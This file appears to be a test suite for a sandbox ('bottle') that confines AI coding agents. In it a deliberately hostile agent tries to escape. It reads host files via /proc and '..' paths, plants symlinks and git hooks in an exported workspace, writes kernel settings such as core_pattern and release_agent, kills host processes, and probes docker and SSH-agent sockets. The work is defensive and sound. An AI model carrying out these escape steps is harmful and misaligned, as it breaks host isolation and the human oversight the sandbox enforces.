"""T7 to T9: files, programs, sockets and settings of the host."""

from __future__ import annotations

import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

from claude_bottle.guard.settings import guard_dir
from tests.bottles.evil.record import Tried, attempt
from tests.bottles.evil.stage import Stage
from tests.bottles.gate.canary import settings

_LOG = "what an allowed host received"


def _content(path: Path) -> str:
    """Return what a person finds in an exported folder: the beginning of each file, and the targets of links."""
    found = ""
    for base, folders, files in os.walk(path):
        for one in (Path(base, name) for name in [*folders, *files]):
            if one.is_symlink():
                found += f"{os.readlink(one)}\n"
            elif one.is_file():
                with open(one, "rb") as file:
                    found += file.read(100_000).decode(errors="replace")
    return found


@attempt(
    "T7",
    "files of the host, by every path that the agent is told: absolute, with `..`, by `/proc`",
    control="a file of the bottle is read by the same program and carried out",
    oracle=_LOG,
)
def files_of_the_host(stage: Stage) -> Tried:
    token = stage.evil.token()
    (stage.folder / "private.txt").write_text("private-of-the-host")
    said = stage.evil.run(
        """
        found = ''
        with open('/tmp/own.txt', 'w') as file:
            file.write('own-of-the-bottle')
        for path in (PATH, '../' * 9 + PATH, '/proc/1/root' + PATH, '/proc/1/cwd/' + PATH, '/proc/self/root' + PATH,
                     '/host' + PATH, '/mnt' + PATH, '/run/host' + PATH, '/proc/1/environ', '/tmp/own.txt'):
            found += sh(f"cat '{path}' 2>&1") + '\\n'
        for name in os.listdir('/proc'):
            if name.isdigit():
                found += sh(f"cat '/proc/{name}/root{PATH}' 2>/dev/null")
        carry_out(found)
        """,
        token,
        PATH=str(stage.folder / "private.txt"),
    )
    found = stage.carried_out(token)
    return Tried("own-of-the-bottle" in found, "private-of-the-host" in found, said + found)


@attempt(
    "T7",
    "links, pipes, devices and a sparse terabyte in the tree that a person compares and exports",
    control="an ordinary file is in the comparison and in the copy",
    oracle="the exported folder, and a folder of the host beside it",
)
def links_in_an_export(stage: Stage) -> Tried:
    victim, target = stage.folder / "victim", stage.folder / "exported"
    victim.mkdir()
    (victim / "kept").write_text("untouched\n")
    said = stage.evil.run(
        """
        os.chdir('/workspace')
        with open('made.txt', 'w') as file:
            file.write('made-by-the-agent\\n')
        links = {'out': VICTIM, 'out2': '../' * 9 + VICTIM, 'passwd': '/etc/passwd', 'up': '..', 'self': 'self'}
        for name, where in links.items():
            os.symlink(where, name)
        os.mkdir('deep')
        os.symlink('../out', 'deep/out')
        os.mkfifo('pipe')
        with open('huge', 'wb') as file:
            os.truncate(file.fileno(), 1 << 40)
        print(sh('mknod disk b 8 0; ln -s made.txt "$(printf "a\\033[2Jb")"; git init -q .'))
        """,
        VICTIM=str(victim),
    )
    shown = stage.bottles.diff(stage.evil.slug)["diff"]
    stage.bottles.export(stage.evil.slug, output=target)
    content = _content(target)
    stage.evil.run("sh('cd /workspace && rm -rf out out2 passwd up self deep pipe huge disk .git made.txt a*b')")
    leaked = "untouched" in content + shown or "root:x:0:0:root:/root" in content + shown or str(victim) in content
    touched = (victim / "kept").read_text() != "untouched\n" or len(list(victim.iterdir())) != 1
    return Tried(
        "made-by-the-agent" in content and "made-by-the-agent" in shown, leaked or touched, said + content[-300:]
    )


@attempt(
    "T7",
    "git settings and hooks in the tree, which run when a person works in the exported copy",
    control="the same settings run the program in a repository that was not exported",
    oracle="the program itself, on this host",
)
def git_settings_in_an_export(stage: Stage) -> Tried:
    target, plain = stage.folder / "with-git", stage.folder / "plain"
    said = stage.evil.run(
        """
        print(sh('cd /workspace && git init -q . && git add . && git -c user.name=e -c user.email=e@x commit -qm x'))
        with open('/workspace/.git/config', 'a') as file:
            file.write(SETTINGS)
        for name in ('post-checkout', 'pre-commit', 'post-index-change', 'fsmonitor-watchman', 'reference-transaction'):
            with open('/workspace/.git/hooks/' + name, 'w') as file:
                file.write(PROGRAM)
            os.chmod('/workspace/.git/hooks/' + name, 0o755)
        """,
        SETTINGS=settings(stage.canary.path),
        PROGRAM=stage.canary.path.read_text(),
    )
    stage.bottles.export(stage.evil.slug, output=target)
    stage.evil.run("sh('rm -rf /workspace/.git')")
    stage.canary.sang()
    world = stage.world
    world.git("init", "-q", str(plain), cwd=stage.folder)
    world.commit({"a.txt": "x"}, cwd=plain)
    with open(plain / ".git/config", "a") as config:
        config.write(settings(stage.canary.path))
    results = []
    for folder in (target, plain):
        (folder / "agent.py").write_text("changed")
        for words in (["status"], ["diff", "--ext-diff"], ["log", "-p", "-1"], ["add", "."], ["checkout", "-qb", "b"]):
            world.git(*words, cwd=folder, check=False)
        results.append(stage.canary.sang())
    return Tried(results[1] and (target / ".git").is_dir(), results[0], said)


@attempt(
    "T7",
    "the folder that was copied, the manifest, and settings of our own that would choose who is told",
    control="the change is in the bottle's comparison",
    oracle="the host's own files",
)
def folder_of_the_host(stage: Stage) -> Tried:
    tree, home = stage.folder / "tree", Path(os.environ["HOME"])
    before = {path: path.read_bytes() for path in (*tree.iterdir(), stage.folder / "bottles.json")}
    said = stage.evil.run(
        """
        with open('/workspace/kept.txt', 'a') as file:
            file.write('changed-by-the-agent\\n')
        own = os.path.expanduser('~/.config/claude-bottle')
        for path in ('/workspace/bottles.toml', own + '/notify.toml', own + '/bottles.toml', TREE + '/kept.txt',
                     HOME + '/.gitconfig'):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, 'a') as file:
                    file.write('[[webhook]]\\nurl = "http://allowed.test/x"\\n')
            except OSError as error:
                print(path, error)
        """,
        TREE=str(tree),
        HOME=str(home),
    )
    shown = stage.bottles.diff(stage.evil.slug)["diff"]
    after = {path: path.read_bytes() for path in (*tree.iterdir(), stage.folder / "bottles.json")}
    other = "webhook" in (home / ".gitconfig").read_text() or (home / ".config").exists()
    return Tried("+changed-by-the-agent" in shown, after != before or other, said)


_KERNEL = """
for path, value in (('/proc/sys/kernel/core_pattern', '|/tmp/evil-core'), ('/proc/sys/kernel/hostname', 'evil-host'),
                    ('/proc/sys/kernel/modprobe', '/tmp/evil-core'), ('/sys/kernel/uevent_helper', '/tmp/evil-core'),
                    ('/sys/fs/cgroup/release_agent', '/tmp/evil-core'), ('/proc/sys/fs/file-max', '77777')):
    try:
        with open(path, 'w') as file:
            file.write(value)
    except OSError as error:
        print(path, error)
print(sh('mount -t cgroup -o rdma cgroup /mnt; mount -t tmpfs tmpfs /mnt && touch /mnt/x; umount /mnt'))
print(sh('unshare -Urm sh -c "mount -t tmpfs tmpfs /mnt; echo 77777 >/proc/sys/fs/file-max"'))
print(sh('nsenter -t 1 -a id; chroot /proc/1/root id; hostname evil-host; dmesg | tail -1; swapoff -a; modprobe dummy'))
print(sh('cat /tmp/own-file || echo evil-in-the-bottle >/workspace/kernel.txt'))
"""


def _kernel_settings() -> dict[str, str]:
    """Return the settings and the mounts of the host's kernel."""
    names = ("kernel/core_pattern", "kernel/hostname", "kernel/modprobe", "fs/file-max")
    found = {path: path.read_text() for path in (Path("/proc/sys", name) for name in names) if path.exists()}
    mounts = Path("/proc/self/mountinfo").read_text().splitlines()
    return {**{str(path): text for path, text in found.items()}, "mounts": str(len(mounts))}


@attempt(
    "T8",
    "settings of the kernel that start programs, mounts, new namespaces, the namespaces of process 1, modules",
    control="the same program writes into the bottle",
    oracle="the settings and mounts of the host's kernel",
)
def settings_of_the_kernel(stage: Stage) -> Tried:
    before = _kernel_settings()
    said = stage.evil.run(_KERNEL)
    after = _kernel_settings()
    made = stage.bottles.diff(stage.evil.slug)["diff"]
    return Tried("+evil-in-the-bottle" in made, after != before, said)


@attempt(
    "T8",
    "to end, stop or trace every process that it sees",
    control="a process of the bottle is ended by the same program",
    oracle="processes of the host: the guard, the page, and one that only sleeps",
)
def processes_of_the_host(stage: Stage) -> Tried:
    token = stage.evil.token()
    with subprocess.Popen(["sleep", "600"]) as sleeping:
        guards = [stage.guard_pid(one) for one in stage.terminals.values()]
        said = stage.evil.run(
            """
            import signal
            own = subprocess.Popen(['sleep', '600'])
            for pid in (*PIDS, own.pid):
                if pid in (os.getpid(), os.getppid()):  # the same numbers mean other processes in the bottle
                    continue
                for number in (signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(pid, number)
                    except OSError as error:
                        print(pid, error)
                print(sh(f'ls -l /proc/{pid}/exe; timeout 3 cat /proc/{pid}/mem | head -c 10'))
            if own.wait(10) == -9:
                web('allowed.test', '/ended')
            """,
            token,
            PIDS=[sleeping.pid, *guards, os.getpid()],
        )
        alive = [Path(f"/proc/{pid}/stat").read_text().rpartition(") ")[2][0] for pid in (sleeping.pid, *guards)]
        sleeping.kill()
    return Tried(stage.comes(token), any(one in "TtZX" for one in alive), said + str(alive))


@contextmanager
def _unix_canaries(paths: list[str]) -> Iterator[list[str]]:
    """Listen at these addresses of Unix sockets; yields what has been received."""
    received: list[str] = []
    listeners = []
    for path in paths:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(path)
        listener.listen()
        listeners.append(listener)
        threading.Thread(target=_receive, args=(listener, received), daemon=True).start()
    try:
        yield received
    finally:
        for one in listeners:
            one.shutdown(socket.SHUT_RDWR)
            one.close()


def _receive(listener: socket.socket, received: list[str]) -> None:
    with suppress(OSError):
        while True:
            line, _ = listener.accept()
            with line:
                line.settimeout(5)
                received.append(line.recv(200).decode(errors="replace"))
                line.sendall(b"ok")


_SOCKETS = """
import glob
paths = [PATH, '\\0' + NAME, os.environ.get('SSH_AUTH_SOCK', '/run/ssh-agent'), '/var/run/docker.sock',
         '/run/docker.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket',
         '/run/systemd/private', GUARD]
try:
    with open('/proc/net/unix') as table:
        paths += [line.split()[7].replace('@', '\\0', 1) for line in table if len(line.split()) > 7]
except OSError as error:
    print(error)
paths += [line for line in sh('find / -xdev -type s 2>/dev/null').splitlines()]
for path in paths:
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(3)
        try:
            line.connect(path)
            line.sendall(TOKEN.encode())
            print(repr(path), line.recv(100))
        except OSError as error:
            print(repr(path), error)
"""


@attempt(
    "T9",
    "sockets of the host: a path, an abstract name, docker, D-Bus, an SSH agent, the guard, all that the bottle lists",
    control="a program of the host reaches both canaries",
    oracle="the sockets' own log",
)
def sockets_of_the_host(stage: Stage) -> Tried:
    path, name, token = str(stage.folder / "canary.sock"), "evil-canary", stage.evil.token()
    with _unix_canaries([path, f"\0{name}"]) as received:
        guard = str(guard_dir(stage.evil.slug) / "supervisor")
        said = stage.evil.run(_SOCKETS, token, PATH=path, NAME=name, GUARD=guard)
        reached = token in "".join(received)
        for address in (path, f"\0{name}"):
            with socket.socket(socket.AF_UNIX) as line:
                line.connect(address)
                line.sendall(b"from-the-host")
                line.recv(10)
        alive = received.count("from-the-host") == 2
    return Tried(alive, reached, said)
